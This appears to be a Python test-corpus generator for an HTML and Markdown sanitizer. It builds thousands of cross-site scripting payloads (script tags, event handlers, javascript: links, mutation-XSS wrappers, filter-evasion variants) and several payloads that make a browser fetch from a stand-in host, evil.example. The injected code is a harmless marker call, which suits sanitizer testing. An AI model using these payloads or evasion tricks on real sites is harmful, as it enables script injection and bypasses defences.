"""Attacks made by rule, our own: each calls `top.hit(NUMBER)` where a browser runs it, or asks a foreign host for something."""

from __future__ import annotations

import re
from collections.abc import Callable
from itertools import product
from random import Random

SPOTS = ("img src=x", "svg", "details open", "input autofocus", "button", "a href=#", "div tabindex=0", "p", "table", "video", "em", "select autofocus")
EVENTS = ("onclick", "onmouseover", "onfocus", "onpointerover", "onmouseenter", "onmousedown", "onfocusin")
ALONE = (
    "<script>{js}</script>",
    "<ScRiPt>{js}</sCrIpT>",
    "<script\n>{js}</script\n>",
    "<script src=data:text/javascript,{js}></script>",
    "<svg><script>{js}</script></svg>",
    "<img src=x onerror={js}>",
    "<img/src=x/onerror={js}//",
    "<img src=x onerror='{entities}'>",
    "<svg onload={js}>",
    "<svg/onload={js}//",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<body onload={js}>",
    "<iframe srcdoc='<script>{js}</script>'></iframe>",
    "<iframe src='javascript:{js}'></iframe>",
    "<object data='javascript:{js}'></object>",
    "<embed src='javascript:{js}'>",
    "<details open ontoggle={js}>x</details>",
    "<a href='javascript:{js}'>x</a>",
    "<a href='JaVaScRiPt:{js}'>x</a>",
    "<a href='java&#9;script:{js}'>x</a>",
    "<a href='&#106;avascript:{js}'>x</a>",
    "<a href=' javascript:{js}'>x</a>",
    "<a href='\x01javascript:{js}'>x</a>",
    "<svg><a xlink:href='javascript:{js}'><text y=20>x</text></a></svg>",
    "<math href='javascript:{js}'>x</math>",
    "<form action='javascript:{js}'><button>x</button></form>",
    "<form><button formaction='javascript:{js}'>x</button></form>",
    "<audio src=x onerror={js}></audio>",
    "<video><source onerror={js}></video>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror={js}>",
    "</title><script>{js}</script>",
    "</style><script>{js}</script>",
    "--><script>{js}</script>",
    "<!--><script>{js}</script>-->",
    "</script><script>{js}</script>",
    "</article></main></body></html><script>{js}</script>",
    "<textarea autofocus onfocus={js}></textarea>",
    "<style onload={js}></style>",
    "<link rel=stylesheet href='data:text/css,a' onload={js}>",
)
ASKING = (
    "<img src='http://evil.example/{n}.png'>",
    "<link rel=stylesheet href='http://evil.example/{n}.css'>",
    "<style>@import 'http://evil.example/{n}.css';</style>",
    "<p style='background:url(http://evil.example/{n}.png)'>x</p>",
    "<iframe src='http://evil.example/{n}'></iframe>",
    "<object data='http://evil.example/{n}'></object>",
    "<video src='http://evil.example/{n}.mp4'></video>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/{n}'>",
    "<base href='http://evil.example/{n}/'>",
)
MARKDOWN = (
    "[x](javascript:{js})",
    "[x](<javascript:{js}>)",
    "[x]( javascript:{js} )",
    "<javascript:{js}>",
    "[x]: javascript:{js}\n\n[x]",
    "[x](&#106;avascript:{js})",
    "[x](data:text/html,<script>{js}</script>)",
    "![x](x\"onerror=\"{js})",
    '![x](x.png "\\"onerror={js} a=\\"")',
    "`<script>{js}</script>`",
    "    <script>{js}</script>",
    "| <img src=x onerror={js}> |\n|---|\n| <svg onload={js}> |",
    "> <script>{js}</script>",
    "- <img src=x onerror={js}>",
    "# <img src=x onerror={js}>",
    "x[^1]\n\n[^1]: <img src=x onerror={js}>",
)
CALL = re.compile(r"(?:\w+\.)?(?:alert|confirm|prompt)\s*(?:\([^()]*\)|`[^`]*`)")


AROUND = (
    "<b>{0}</b>",
    "<div><table><tr><td>{0}",
    "<ul><li>x<li>{0}</ul>",
    "<p title='x>{0}",
    "<svg><desc>{0}</desc></svg>",
    "<math><annotation-xml encoding='text/html'>{0}</annotation-xml></math>",
    "<noscript>{0}</noscript>",
    "<template>{0}</template>",
    "<select><option>{0}</select>",
    "<xmp>{0}</xmp>{0}",
    "<!-- > {0}",
    "<![CDATA[ > {0} ]]>",
    "> {0}",
    "- {0}",
    "1. x\n\n   {0}",
    "# {0}",
    "| a |\n|---|\n| {0} |",
    "[{0}](https://a.example)",
    "![{0}](a.png)",
    "[x](https://a.example '{0}')",
    "**{0}**",
    "x[^1]\n\n[^1]: {0}",
    "<https://a.example/{0}>",
    "x\\{0}",
)
"""What an attack may stand in, as HTML and as Markdown."""


def _shifting(shape: str) -> str:
    return "".join(letter.upper() if place % 2 else letter for place, letter in enumerate(shape))


ALTERED: tuple[Callable[[str], str], ...] = (
    lambda shape: re.sub(r"{JS}|{Js}|{jS}", "{js}", re.sub(r"(?<=<)/?\w+|on\w+(?==)", lambda found: _shifting(found[0]), shape)),
    lambda shape: shape.replace(" on", "/on", 1),
    lambda shape: shape.replace(" ", "\n"),
    lambda shape: shape.replace(" ", "\t\x0c"),
    lambda shape: shape.replace("<", "<\x00", 1),
    lambda shape: shape.replace("={js}", '="{js}"'),
    lambda shape: shape.replace("={js}", "=`{js}`"),
    lambda shape: shape.replace("{js}", "{entities}"),
    lambda shape: shape.rstrip(">"),
    lambda shape: shape + shape,
    lambda shape: "<" + shape,
    lambda shape: shape.replace("javascript:", "java\nscript:").replace("javascript", "JAVASCRIPT"),
    lambda shape: shape.replace("<", "&lt;", 1) + shape,
)
"""What may be changed about an attack so that a list of bad words knows it no more."""


def attacks(count: int) -> list[str]:
    """Return so many attacks, the same at every call, the number of each in it; as shapes all differ, up to some six thousand."""
    html = [*ALONE, *(f"<{spot} {event}={{js}}>x" for spot, event in product(SPOTS, EVENTS)), *ASKING]
    shapes = [*html, *MARKDOWN]
    dice, more = Random(20261122), []
    more += [around.replace("{0}", shape) for around, shape in product(AROUND, html)]
    more += [alter(shape) for alter, shape in product(ALTERED, html)]
    more += [f"<p>x {first} {second}" for first, second in product(ALONE, ALONE) if first != second]
    dice.shuffle(more)
    every = list(dict.fromkeys((*shapes, *more)))
    assert len(every) >= count, f"there are {len(every)} shapes"
    return [written(shape, number) for number, shape in enumerate(every[:count])]


def written(shape: str, number: int) -> str:
    """Return a shape with the call of its number in it."""
    call = f"top.hit({number})"
    coded = "".join(f"&#{ord(letter)};" for letter in call)
    return shape.replace("{js}", call).replace("{entities}", coded).replace("{n}", str(number))


def known(text: str, number: int) -> str:
    """Return an attack of somebody's list that calls `top.hit` where it called `alert`."""
    return CALL.sub(f"top.hit({number})", text)
